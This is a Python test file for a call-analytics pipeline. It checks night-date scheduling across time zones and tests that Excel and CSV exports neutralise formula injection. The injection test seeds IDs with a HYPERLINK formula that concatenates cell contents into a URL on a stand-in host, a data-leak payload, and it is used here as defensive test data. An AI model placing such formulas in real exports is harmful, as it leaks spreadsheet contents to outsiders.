"""Issue 18: bad input, bad settings, kills and faults; each test reproduced its fault on the code before the fix."""

from __future__ import annotations

from pathlib import Path

import pendulum
from conftest import SAMPLES


def test_a_scheduled_run_processes_the_night_before_with_the_datetime_prefect_passes():
    from callintel.flows.schedule import night_date

    at_two = pendulum.datetime(2026, 12, 2, 18, 0, tz="UTC")  # 02:00 on 3 Dec in Shanghai: the cron's run
    assert str(night_date(at_two, "Asia/Shanghai", -1)) == "2026-12-02"
    local = pendulum.datetime(2026, 12, 3, 2, 0, tz="Asia/Shanghai")
    assert str(night_date(local, "Asia/Shanghai", -1)) == "2026-12-02"
    assert str(night_date(at_two, "UTC", 0)) == "2026-12-02"


def test_ids_that_look_like_formulas_reach_spreadsheets_as_text(settings, tmp_path: Path):
    """A call_id `=1+2...` and an agent_id `=HYPERLINK(...)` (a manifest or an imported transcript says so)."""
    import csv
    import json

    from openpyxl import load_workbook

    from callintel.evaluation.calls import land
    from callintel.flows.steps import BY_NAME, run_step
    from callintel.warehouse.db import connect
    from callintel.warehouse.export import export_night
    from callintel.warehouse.script_library import export_script_library

    dialogues = json.loads((SAMPLES / "dialogues.json").read_text(encoding="utf-8"))["calls"]
    for i, d in enumerate(dialogues):
        d["call_id"] = f"=1+{i}"
        d["agent_id"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")' if i % 2 else "@SUM(A1:A9)"
    con = connect(settings.path("warehouse"))
    nights = land(con, dialogues, settings)
    for name in ("profiles", "replies", "leads"):
        run_step(BY_NAME[name], con, nights, settings)
    written = export_night(con, tmp_path / "out", settings) | export_script_library(con, tmp_path / "out")
    con.close()

    for key in ("xlsx", "script_library_xlsx"):
        book = load_workbook(written[key])
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        risky = [c for c in cells if c.value.startswith(("=", "@"))]
        assert risky, f"{key}: the test data should reach the workbook"
        assert {c.data_type for c in risky} == {"s"}, key  # text, not formulas
    for key, path in written.items():
        if not path.endswith(".csv"):
            continue
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                bad = [v for v in row if v.startswith(("=", "+", "@", "\t", "\r"))
                       or (v.startswith("-") and not _number(v))]
                assert not bad, (key, bad)
    library = Path(written["script_library_csv"]).read_text(encoding="utf-8-sig")
    assert "'=1+" in library or "'@SUM" in library


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
